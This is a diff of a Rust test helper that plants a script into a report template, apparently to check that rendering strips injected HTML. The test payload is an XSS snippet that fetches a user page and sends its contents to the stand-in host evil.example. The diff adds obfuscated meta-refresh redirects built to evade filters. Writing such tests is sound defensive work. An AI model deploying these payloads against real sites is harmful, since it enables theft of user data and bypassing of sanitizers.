@@ -123,7 +123,7 @@ fn unit_with_script(tmp: &Path) -> PathBuf {
     copy_tree(&taian(), &tmp.join("units/other/2020"));
     fs::create_dir_all(unit.join("templates")).unwrap();
     let template = fs::read_to_string(root().join("templates/report.html.j2")).unwrap();
-    let script = "<script>fetch('/u/1/').then(r=>r.text()).then(t=>fetch('http://evil.example/?'+t))</script><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/?x\">";
+    let script = "<script>fetch('/u/1/').then(r=>r.text()).then(t=>fetch('http://evil.example/?'+t))</script><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/?x\"><meta a'b x=\"'> \" http-equiv=\"refresh\" content=\"0;url=http://evil.example/?q\"><me<meta http-equiv=x>ta http-equiv=\"refresh\" content=\"0;url=http://evil.example/?r\"><me\u{FDD0}x\u{FDD1}\u{FDD2}ta http-equiv=\"refresh\" content=\"0;url=http://evil.example/?m\">";
     fs::write(
         unit.join("templates/report.html.j2"),
         format!(
